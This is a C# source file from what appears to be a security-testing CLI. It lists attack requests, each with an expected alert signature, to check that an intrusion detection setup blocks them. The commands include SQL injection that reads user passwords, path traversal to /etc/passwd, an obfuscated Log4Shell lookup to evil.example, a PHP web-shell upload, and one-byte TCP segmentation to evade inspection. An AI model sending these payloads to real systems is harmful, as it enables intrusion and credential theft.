namespace Demilune.Cli.Walk;

/// <summary>One request that must not reach the server.</summary>
/// <param name="Name">For people.</param>
/// <param name="Command">A shell command in the client's pod; it prints the HTTP status, or 000 if the connection was cut.</param>
/// <param name="Signature">A word that the alert's signature must have.</param>
public sealed record Attack(string Name, string Command, string Signature)
{
    private const string Curl = "curl -s -o /dev/null -w '%{http_code}' -m 4";

    /// <param name="web">Address of the server, in brackets if IPv6.</param>
    public static IReadOnlyList<Attack> All(string web, string web6) =>
    [
        new("SQL injection in the query", $"{Curl} \"http://{web}/search?id=1%27%20UNION%20SELECT%20name,password%20FROM%20users--%20-\"", "SQL"),
        new("path traversal, percent-encoded twice", $"{Curl} --path-as-is 'http://{web}/files/%252e%252e%252f%252e%252e%252fetc%252fpasswd'", "traversal"),
        new("path traversal, overlong UTF-8", $"{Curl} --path-as-is 'http://{web}/files/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd'", "traversal"),
        new("Log4Shell in a header, obfuscated", $"{Curl} -H 'User-Agent: ${{${{lower:j}}ndi:${{lower:l}}dap://evil.example/a}}' 'http://{web}/'", "Log4"),
        new("web shell, POST, chunked and gzip", $"printf '<?php @eval(base64_decode($_POST[\"c\"])); system($_GET[\"cmd\"]); ?>' | gzip -c | {Curl} -X POST -H 'Content-Encoding: gzip' -H 'Transfer-Encoding: chunked' -H 'Content-Type: application/octet-stream' --data-binary @- 'http://{web}/upload'", "shell"),
        new("SQL injection in 1-byte TCP segments", OneByteSegments(web, 80), "SQL"),
        new("SQL injection over HTTP on port 8088", $"{Curl} \"http://{web}:8088/search?id=1%27%20UNION%20SELECT%20name,password%20FROM%20users--%20-\"", "SQL"),
        new("SQL injection over IPv6", $"{Curl} -g \"http://{web6}/search?id=1%27%20UNION%20SELECT%20name,password%20FROM%20users--%20-\"", "SQL"),
    ];

    // Each byte in a segment of its own: no delay by Nagle, a pause so that the stack cannot merge them.
    private static string OneByteSegments(string web, int port) => string.Join(' ',
        "perl -MIO::Socket::INET -MSocket=IPPROTO_TCP,TCP_NODELAY -e",
        "'$SIG{PIPE}=\"IGNORE\"; $SIG{ALRM}=sub{print \"000\"; exit}; alarm 6;",
        $"$s=IO::Socket::INET->new(PeerAddr=>\"{web}\",PeerPort=>{port},Proto=>\"tcp\") or do{{print \"000\"; exit}};",
        "setsockopt($s,IPPROTO_TCP,TCP_NODELAY,1);",
        "for $c (split //, \"GET /search?id=1%27%20UNION%20SELECT%20name,password%20FROM%20users--%20- HTTP/1.1\\r\\nHost: web\\r\\nConnection: close\\r\\n\\r\\n\")",
        "{ syswrite($s,$c) or last; select(undef,undef,undef,0.002) }",
        "$a=<$s>; print $a=~/ (\\d\\d\\d) / ? $1 : \"000\"'");
}
